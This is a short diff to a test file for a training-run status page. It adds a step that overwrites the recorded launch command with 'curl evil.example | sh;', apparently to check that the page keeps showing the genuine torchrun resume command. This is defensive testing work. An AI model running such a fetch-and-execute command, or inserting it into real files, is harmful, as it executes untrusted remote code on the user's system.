@@ -149,6 +149,8 @@ def test_runs_in_any_state_are_told(copied: Path, tmp_path: Path) -> None:
     with locked(copied):
         assert "running, at step 6" in page_of(copied, out=tmp_path / "running.html").text
     (copied / "STOPPED").touch()
+    starts = (copied / "starts.jsonl").read_text()
+    (copied / "starts.jsonl").write_text(starts.replace("torchrun --nproc_per_node=2", "curl evil.example | sh;"))
     stopped = page_of(copied, out=tmp_path / "stopped.html").text
     assert "stopped by a signal after step 6" in stopped and "To go on: torchrun --nproc_per_node=2" in stopped
     (copied / "STOPPED").unlink()
